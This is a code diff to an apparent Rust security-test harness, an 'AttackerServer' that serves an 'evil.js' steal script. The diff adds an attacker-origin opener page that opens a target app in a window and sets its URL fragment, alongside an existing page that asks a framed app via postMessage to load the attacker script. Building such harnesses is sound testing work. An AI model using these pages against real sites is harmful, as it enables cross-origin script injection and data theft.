@@ -30,6 +30,7 @@ impl AttackerServer {
         let app = Router::new()
             .route("/evil.js", get(|| async { script(STEAL_SCRIPT) }))
             .route("/host.html", get(host_page))
+            .route("/opener.html", get(opener_page))
             .fallback(|| async { "nothing here" })
             .layer(axum::middleware::from_fn_with_state(log.clone(), record))
             .with_state(log.clone());
@@ -51,7 +52,11 @@ impl AttackerServer {
             .unwrap()
             .iter()
             .map(|r| r.uri.clone())
-            .filter(|uri| !uri.starts_with("/host.html") && uri != "/favicon.ico")
+            .filter(|uri| {
+                !uri.starts_with("/host.html")
+                    && !uri.starts_with("/opener.html")
+                    && uri != "/favicon.ico"
+            })
             .collect()
     }
 }
@@ -71,6 +76,22 @@ const frame = document.getElementById('f');
 function ask() {{ frame.contentWindow.postMessage({{url: location.origin + '/evil.js'}}, '*'); }}
 window.addEventListener('message', ask);
 frame.addEventListener('load', () => {{ ask(); setTimeout(ask, 200); }});
+</script>"#
+    ))
+}
+
+/// A page on the attacker's origin that opens the app in a new window (`open()`) and can
+/// later point that window at the same address with a fragment of its choosing (`send(hash)`):
+/// any page that opened the app may set its location.
+async fn opener_page(Query(q): Query<std::collections::HashMap<String, String>>) -> Html<String> {
+    let app = q.get("app").cloned().unwrap_or_default();
+    Html(format!(
+        r#"<!doctype html><title>opener</title>
+<script>
+const app = {app:?};
+let opened = null;
+window.open_app = () => {{ opened = window.open(app, "arena"); return !!opened; }};
+window.send = (hash) => {{ opened.location = app + hash; return true; }};
 </script>"#
     ))
 }
